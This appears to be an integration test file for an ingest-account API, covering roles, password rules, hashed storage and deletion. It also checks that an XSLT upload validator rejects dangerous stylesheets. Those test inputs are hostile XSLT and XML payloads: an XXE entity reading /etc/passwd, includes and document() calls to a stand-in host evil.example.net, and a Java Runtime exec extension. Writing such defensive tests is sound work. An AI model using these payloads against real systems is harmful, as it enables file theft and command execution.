/**
 * The ingest account of an inventory (spec 001 §7 Inventories "Ingest account (password, xslt
 * upload, delete, test; configuration update)") against the real core on real SQLite (and
 * PostgreSQL when DATABASE_URL_PG is set): the configuration with its username unique across
 * inventories (§8 "Inventory configuration already exists"), the password under the §5 rules and
 * stored hashed, the XSLT upload refusing every dangerous construct, delete, the test; roles,
 * scope, that a rejected request changes nothing, `inventory.changed` on /ws.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INGEST_TEST_REASONS, VALIDATION, inventoryTopic, type IngestAccount } from '@fleet/contracts';
import { verifyPassword } from '@fleet/db';
import { providers, startTestStack, type TestStack, coreCall, recordPublished, type Method, type Published } from '../support/stack.js';
import { SAFE_XSLT } from '../support/examples/inventories.js';

const GLOBAL = 'inv-global';
const SPORTS = 'inv-global-sports';
const METRO = 'inv-metro';
const XSL_NS = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"';
const sheet = (inner: string, attrs = '') => `<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" ${XSL_NS}${attrs}>${inner}</xsl:stylesheet>`;

describe.each(providers())('ingest accounts on %s', (provider) => {
  let s: TestStack;
  let superUser: string;
  let contractor: string;
  let regular: string;
  let reader: string;
  const published: Published[] = [];

  beforeAll(async () => {
    s = await startTestStack({ provider });
    [superUser, contractor, regular, reader] = (await Promise.all(['super_user', 'luc_contractor', 'luc_regular', 'luc_read'].map((u) => s.login(u)))) as [
      string,
      string,
      string,
      string,
    ];
    recordPublished(s.app, published);
  });
  afterAll(async () => s?.close());

  const call = (method: Method, url: string, cookie: string | undefined, payload?: unknown) => coreCall(s, method, url, cookie, payload);
  const db = () => s.app.services.db;
  const snapshot = async () => JSON.stringify(await db().ingestAccount.findMany({ orderBy: { inventoryId: 'asc' } }));
  const account = async (id = GLOBAL): Promise<IngestAccount> => (await call('GET', `/v2/inventories/${id}/ingestAccount`, reader)).json();
  const field = (body: string) => (JSON.parse(body) as { error: { fields?: { path: string; message: string }[] } }).error.fields?.[0];
  const test = async (id = GLOBAL) => (await call('POST', `/v2/inventories/${id}/ingestAccount/test`, contractor)).json();

  it('answers 401 without a session, 403 to a regular or read-only user for a change, 404 alike for foreign and unknown inventories', async () => {
    const before = await snapshot();
    expect((await call('GET', `/v2/inventories/${GLOBAL}/ingestAccount`, undefined)).statusCode).toBe(401);
    for (const cookie of [regular, reader]) {
      const res = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, cookie, { username: 'nope' });
      expect(res.statusCode).toBe(403);
    }
    const foreign = await call('PUT', `/v2/inventories/${METRO}/ingestAccount`, contractor, { username: 'metro-ingest' });
    expect(foreign.statusCode).toBe(404);
    expect(foreign.body).toBe((await call('PUT', '/v2/inventories/inv-no-such/ingestAccount', contractor, { username: 'metro-ingest' })).body);
    expect(await snapshot()).toBe(before);
  });

  it('creates and changes the configuration; a username of another inventory is "Inventory configuration already exists"; stale versions 409', async () => {
    const none = await account();
    expect(none).toMatchObject({ exists: false, username: '', hasPassword: false, hasXslt: false, version: 0 });
    expect(await test()).toEqual({ inventoryId: GLOBAL, ok: false, reason: INGEST_TEST_REASONS.noAccount });
    published.length = 0;
    const created = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, {
      username: 'global.ingest',
      enabled: true,
      host: 'ingest.example.net',
      port: 2121,
      path: '/in',
    });
    expect(created.statusCode, created.body).toBe(200);
    const a: IngestAccount = created.json();
    expect(a).toMatchObject({
      exists: true,
      username: 'global.ingest',
      configuration: { enabled: true, host: 'ingest.example.net', port: 2121, path: '/in' },
      version: 1,
    });
    expect(published.some((p) => p.event.type === 'inventory.changed' && p.topics.includes(inventoryTopic(GLOBAL)))).toBe(true);

    const before = await snapshot();
    const bad = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { username: 'no spaces', port: 0 });
    expect(bad.statusCode).toBe(400);
    expect(JSON.parse(bad.body).error.fields).toEqual(
      expect.arrayContaining([
        { path: 'body.username', message: VALIDATION.mustMatchPattern },
        { path: 'body.port', message: VALIDATION.minValue(1) },
      ]),
    );
    const stale = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { path: '/x', version: a.version + 1 });
    expect(stale.statusCode).toBe(409);
    // Sports is the contractor's too? Super user makes one there, then tries Global's username.
    const sports = await call('PUT', `/v2/inventories/${SPORTS}/ingestAccount`, superUser, { username: 'global.ingest' });
    expect(sports.statusCode).toBe(409);
    expect(sports.json().error).toMatchObject({ code: 'INVENTORY_CONFIGURATION_EXISTS', message: 'Inventory configuration already exists' });
    expect(field(sports.body)).toEqual({ path: 'body.username', message: 'Inventory configuration already exists' });
    expect(await snapshot()).toBe(before);

    const changed = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { enabled: false, version: a.version });
    expect(changed.json()).toMatchObject({
      username: 'global.ingest',
      configuration: { enabled: false, host: 'ingest.example.net', port: 2121, path: '/in' },
      version: 2,
    });
    expect(await test()).toMatchObject({ ok: false, reason: INGEST_TEST_REASONS.disabled });
    await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { enabled: true });
    expect(await test()).toMatchObject({ ok: false, reason: INGEST_TEST_REASONS.noPassword });
  });

  it('sets the password under the users’ rules (entered twice), stored hashed; answers never carry it', async () => {
    const before = await snapshot();
    for (const [password, message] of [
      ['short1A', VALIDATION.passwordRule],
      ['alllowercase1', VALIDATION.passwordRule],
      ['ALLUPPERCASE1', VALIDATION.passwordRule],
      ['NoDigitsOrPunct', VALIDATION.passwordRule],
    ] as const) {
      const res = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, { password, passwordConfirmation: password });
      expect(res.statusCode, password).toBe(400);
      expect(field(res.body), password).toEqual({ path: 'body.password', message });
    }
    const mismatch = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, {
      password: 'Ingest-2024',
      passwordConfirmation: 'Ingest-2025',
    });
    expect(field(mismatch.body)).toEqual({ path: 'body.passwordConfirmation', message: VALIDATION.passwordsMustMatch });
    expect(await snapshot()).toBe(before);

    const ok = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, {
      password: 'Ingest.pass',
      passwordConfirmation: 'Ingest.pass',
    });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json().hasPassword).toBe(true);
    expect(ok.body).not.toContain('Ingest.pass');
    const row = await db().ingestAccount.findUniqueOrThrow({ where: { inventoryId: GLOBAL } });
    expect(row.passwordHash).not.toBe('Ingest.pass');
    expect(await verifyPassword('Ingest.pass', row.passwordHash!)).toBe(true);
    // Its ingest server is simulated: online, so the test passes now.
    await expect.poll(async () => (await test()).ok, { timeout: 10_000 }).toBe(true);
  });

  it("stores a safe XSLT with the account's password and refuses each dangerous construct, or a wrong password, with a clear message, storing nothing", async () => {
    const before = await snapshot();
    const dangerous: [string, string][] = [
      [`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${sheet('')}`, VALIDATION.xsltNotAllowed('DOCTYPE declarations')],
      [sheet('<!ENTITY e "x">'), VALIDATION.xsltNotAllowed('ENTITY declarations')],
      [sheet('<xsl:include href="http://evil.example.net/x.xsl"/>'), VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
      [sheet('<xsl:import href="other.xsl"/>'), VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
      // XSLT as the default namespace: no prefix.
      [
        '<stylesheet version="1.0" xmlns="http://www.w3.org/1999/XSL/Transform"><include href="http://evil.example.net/x.xsl"/></stylesheet>',
        VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)'),
      ],
      [
        sheet(`<xsl:template match="/"><xsl:copy-of select="document('http://evil.example.net/x.xml')"/></xsl:template>`),
        VALIDATION.xsltNotAllowed('document() references other than the stylesheet itself'),
      ],
      [
        sheet(`<xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/passwd')"/></xsl:template>`),
        VALIDATION.xsltNotAllowed('references to external documents'),
      ],
      [sheet('<xsl:template match="/"><a href="file:/etc/hosts"/></xsl:template>'), VALIDATION.xsltNotAllowed('file: references')],
      [sheet('<xsl:template match="/"><xsl:result-document href="out.xml"/></xsl:template>'), VALIDATION.xsltNotAllowed('xsl:result-document')],
      [sheet('<msxsl:script language="JScript">1</msxsl:script>', ' xmlns:msxsl="urn:schemas-microsoft-com:xslt"'), VALIDATION.xsltNotAllowed('scripts')],
      [
        sheet('<xsl:template match="/"/>', ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" extension-element-prefixes="rt"'),
        VALIDATION.xsltNotAllowed('extension elements'),
      ],
      [
        sheet('<xsl:template match="/"><xsl:value-of select="rt:exec(\'ls\')"/></xsl:template>', ' xmlns:rt="java:java.lang.Runtime"'),
        VALIDATION.xsltNotAllowed('extension namespaces'),
      ],
      ['<html><body>not a stylesheet</body></html>', VALIDATION.xsltOnly],
    ];
    for (const [content, message] of dangerous) {
      const res = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, { fileName: 'metadata.xslt', content });
      expect(res.statusCode, content).toBe(400);
      expect(field(res.body), content).toEqual({ path: 'body.content', message });
    }
    const txt = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, { fileName: 'metadata.txt', content: SAFE_XSLT });
    expect(field(txt.body)).toEqual({ path: 'body.fileName', message: VALIDATION.xsltOnly });
    const huge = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, {
      fileName: 'big.xsl',
      content: sheet(`<!-- ${'x'.repeat(300_000)} -->`),
    });
    expect(huge.statusCode).toBe(400);
    expect(field(huge.body)?.path).toBe('body.content');
    expect(await snapshot()).toBe(before);

    // The XSLT security check: the account has a password (the test before), so the upload carries it.
    const selfRef = sheet(`<xsl:template match="/"><xsl:copy-of select="document('')"/></xsl:template>`);
    for (const password of [undefined, 'Ingest.wrong']) {
      const refused = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, {
        fileName: 'metadata.xslt',
        content: selfRef,
        ...(password ? { password } : {}),
      });
      expect(refused.statusCode, String(password)).toBe(403);
      expect(refused.json().error).toMatchObject({ code: 'INCORRECT_PASSWORD', message: 'Incorrect password' });
    }
    expect(await snapshot()).toBe(before);
    const ok = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, {
      fileName: 'metadata.xslt',
      content: selfRef,
      password: 'Ingest.pass',
    });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json()).toMatchObject({ hasXslt: true, xsltFileName: 'metadata.xslt' });
    expect(ok.body).not.toContain('xsl:template');
    expect((await db().ingestAccount.findUniqueOrThrow({ where: { inventoryId: GLOBAL } })).xslt).toBe(selfRef);
  });

  it('deletes the account (a repeated delete succeeds); the test then says there is none', async () => {
    const del = await call('DELETE', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor);
    expect(del.statusCode, del.body).toBe(200);
    expect(del.json()).toEqual({ inventoryId: GLOBAL, deleted: true });
    expect((await account()).exists).toBe(false);
    expect((await call('DELETE', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor)).statusCode).toBe(200);
    expect(await test()).toMatchObject({ ok: false, reason: INGEST_TEST_REASONS.noAccount });
    // The account survives nothing else: a password set on no account creates one, still disabled.
    const pw = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, {
      password: 'Again-2024',
      passwordConfirmation: 'Again-2024',
    });
    expect(pw.json()).toMatchObject({ exists: true, hasPassword: true, configuration: { enabled: false } });
  });
});
